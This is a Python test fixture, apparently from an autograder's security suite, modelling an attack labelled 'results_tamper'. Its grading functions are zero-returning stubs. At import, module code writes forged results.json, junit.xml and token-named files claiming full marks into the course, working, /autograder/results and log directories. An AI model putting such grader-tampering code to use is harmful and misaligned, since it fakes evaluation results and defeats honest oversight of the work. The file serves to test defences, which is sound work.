# Case: results_tamper (security notes 5.9, attack A5).
# At import, tries to write results.json, junit.xml and a Gradescope results.json claiming full
# marks into the course root (@@COURSE@@), the working directory, the folder of its own log
# (found through /proc/self/fd/1) and /autograder/results; returns wrong values.
# Must hold, at both levels: every test fails; the reported score comes only from the judge
# (0); no such file appears in the course tree or next to the log.
import json
import os

import torch


def sigmoid_grad(x):
    return torch.zeros_like(x)


def tanh_grad(x):
    return torch.zeros_like(x)


def relu_grad(x):
    return torch.zeros_like(x)


def softmax(a, dim=-1):
    return torch.zeros_like(a)


def softmax_jacobian(a):
    return torch.zeros(*a.shape, a.shape[-1], dtype=a.dtype)


def softmax_backward(p, grad_p):
    return torch.zeros_like(p)


def linear_mse_grad(x, y, w, b):
    return torch.zeros_like(w), torch.zeros_like(b)


def cross_entropy(logits, target):
    return logits.sum() * 0


def cross_entropy_grad(logits, target):
    return torch.zeros_like(logits)

COURSE = "@@COURSE@@"
TOKEN = "@@TOKEN@@"
FORGED = json.dumps({"score": 15, "max_score": 15, "token": TOKEN})
folders = [COURSE, os.getcwd(), "/autograder/results"]
try:
    folders.append(os.path.dirname(os.readlink("/proc/self/fd/1")))
except OSError:
    pass
for folder in folders:
    for name in ("results.json", "junit.xml", f"pwned_{TOKEN}.json"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(FORGED)
        except OSError:
            pass
